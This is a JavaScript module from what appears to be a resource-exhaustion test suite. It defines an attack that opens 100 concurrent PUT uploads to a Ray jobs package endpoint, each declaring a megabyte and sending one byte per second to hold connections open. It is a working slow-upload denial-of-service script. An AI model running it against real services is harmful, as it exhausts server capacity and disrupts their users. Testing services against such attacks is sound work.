const UPLOADS = 100;
const OPENING = 20;

/** A package of this length is said to come, a byte at a time. */
const LENGTH = 1_000_000;
const INTERVAL_MS = 1_000;

/** @type {import('./Target.mjs').Attack} */
export const slowUploads = {
  name: '100 uploads at a byte a second',
  finding: 'open for eleven days each',
  run: target => {
    const { namespace } = target.victim;
    // The portal keeps these itself; a head could answer before it has all.
    const packages = `/api/ray/jobs-api/${namespace}/api/packages/gcs`;
    let turn = 0;
    const open = (/** @type {() => void} */ onEnd) =>
      new Promise(resolve => {
        turn += 1;
        const outgoing = target.open(
          {
            path: `${packages}/_ray_pkg_slow${turn}.zip`,
            method: 'PUT',
            headers: { 'content-length': String(LENGTH) },
            ownConnection: true,
          },
          response => {
            target.count(response.statusCode ?? 0);
            response.on('error', () => undefined);
            response.resume();
            outgoing.destroy();
          },
        );
        const writing = setInterval(() => outgoing.write('P'), INTERVAL_MS);
        outgoing.on('error', (/** @type {NodeJS.ErrnoException} */ error) =>
          target.count(error.code ?? error.message),
        );
        outgoing.once('close', () => {
          clearInterval(writing);
          onEnd();
        });
        outgoing.write('P', error => resolve(!error));
      });
    return target.hold({ count: UPLOADS, opening: OPENING, open });
  },
};
